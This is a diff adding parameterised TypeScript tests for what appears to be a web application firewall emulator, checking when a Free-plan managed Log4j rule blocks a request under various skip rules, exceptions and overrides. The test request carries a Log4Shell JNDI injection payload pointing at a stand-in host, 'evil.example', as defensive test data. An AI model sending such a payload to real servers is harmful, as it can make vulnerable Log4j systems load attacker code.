@@ -161,6 +161,37 @@ test.each([
   expect((await edge.send(request)).status).toBe(status);
 });
 
+const FREE = '77454fe2d30c4220b5701f6fdfb893ba';
+const LOG4J = '7dfd111a6bad4b86bf3522cce6c5792f';
+
+test.each<[string, readonly never[], 'free' | 'enterprise', number]>([
+  ['runs in a zone of the Free plan by itself', [], 'free', 403],
+  ['does not in another', [], 'enterprise', 200],
+  ['is skipped with the phase', [custom(rule('skip', { phases: [MANAGED] }))], 'free', 200],
+  [
+    'is not reached by an exception of the entry point',
+    [managed(rule('skip', { ruleset: 'current' }))],
+    'free',
+    403,
+  ],
+  ['runs beside what the entry point executes', [managed(execute(OWASP))], 'free', 403],
+  [
+    'runs as a rule about it says',
+    [managed(rule('execute', { id: FREE }, 'ssl', { enabled: false }))],
+    'free',
+    200,
+  ],
+  ['runs once', [managed(execute(FREE, { rules: [{ id: LOG4J, action: 'log' }] }))], 'free', 200],
+])('the Free Managed Ruleset %s', async (_, rulesets, plan, status) => {
+  const edge = await start(rulesets, plan);
+  const answer = await edge.send({ path: '/?q=${jndi:ldap://evil.example}' });
+  expect(answer.status).toBe(status);
+  const blocked = edge.api.state.events.filter(({ action }) => action === 'block');
+  expect(blocked.map(({ rulesetId, ruleId }) => [rulesetId, ruleId])).toEqual(
+    status === 403 ? [[FREE, LOG4J]] : [],
+  );
+});
+
 test('a custom rule skips the managed phase', async () => {
   const edge = await start([custom(rule('skip', { phases: [MANAGED] })), managed(execute(OWASP))]);
   expect((await edge.send({ body: frames(9) })).status).toBe(200);
